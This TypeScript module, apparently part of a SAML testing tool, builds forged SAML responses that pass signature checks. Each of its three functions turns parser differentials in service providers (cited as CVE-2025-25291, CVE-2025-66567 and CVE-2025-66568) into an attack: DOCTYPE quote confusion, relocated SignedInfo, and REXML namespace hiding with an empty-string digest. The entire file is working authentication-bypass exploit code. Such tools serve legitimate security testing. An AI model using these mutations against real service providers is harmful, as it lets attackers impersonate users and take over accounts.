/** Messages for a service provider with two parsers: one of them sees what was signed, the other one what is forged. */

import { createHash } from 'node:crypto';
import type { Mutation } from '../protocol/types.ts';
import { namespaces } from '../protocol/uris.ts';
import { outerOf, setAttribute } from '../protocol/xml-text.ts';
import { edit, editInner, first } from './elements.ts';
import { victimTwin, withVictimContent } from './victim.ts';
import { withExtensions } from './wrapping.ts';

/**
 * The address of the DOCTYPE stands in apostrophes and holds a quotation mark. Written again in quotation marks it ends early: a
 * comment begins that hides the one message, and the other appears, which was the data of a processing instruction (CVE-2025-25291).
 * @param asSent which of the two the text holds as it is sent
 */
export function otherWhenRewritten(asSent: 'forged' | 'genuine'): Mutation {
  return {
    afterSigning: (xml, facts) => {
      const genuine = xml.replace(/^\s*<\?xml[^>]*\?>\s*/, '');
      const forged = withVictimContent(genuine, facts);
      const [sent, rewritten] = asSent === 'forged' ? [forged, genuine] : [genuine, forged];
      const { name } = first(genuine, 'Response');
      return `<!DOCTYPE ${name} SYSTEM 'urn:samlproof:none"><!--'>${sent}<?hidden -->${rewritten}<?end ?>`;
    },
  };
}

/** Content of the victim with a fitting SignedInfo under the genuine SignatureValue; the genuine SignedInfo comes first, in Extensions. */
export function signedInfoElsewhere(): Mutation {
  return {
    afterSigning: (xml, facts) => {
      const twin = victimTwin(facts);
      const fitting = outerOf(twin, first(twin, 'SignedInfo'));
      const forged = edit(withVictimContent(xml, facts), 'SignedInfo', () => fitting);
      return withExtensions(forged, outerOf(xml, first(xml, 'Signature')));
    },
  };
}

/**
 * The same for two parsers. REXML takes the attribute `h:xmlns` for a declaration of the default namespace and so does not see the
 * genuine Signature (CVE-2025-66567). The digest is that of nothing: a relative namespace name has no canonical form (CVE-2025-66568).
 */
export function signedInfoHidden(): Mutation {
  return {
    afterSigning: (xml, facts) => {
      const genuine = outerOf(xml, first(xml, 'Signature')).replace(` xmlns="${namespaces.ds}"`, '');
      const hidden = `<h:Hidden xmlns:h="urn:samlproof:hidden" h:xmlns="urn:samlproof:other">${genuine}</h:Hidden>`;
      const forged = withVictimContent(xml, facts);
      const unreadable = setAttribute(forged, first(forged, 'Assertion'), 'xmlns:void', 'relative');
      const nothing = createHash('sha256').update('').digest('base64');
      const signed = editInner(unreadable, 'DigestValue', () => nothing);
      return withExtensions(signed, `<Hidden xmlns="${namespaces.ds}">${hidden}</Hidden>`);
    },
  };
}
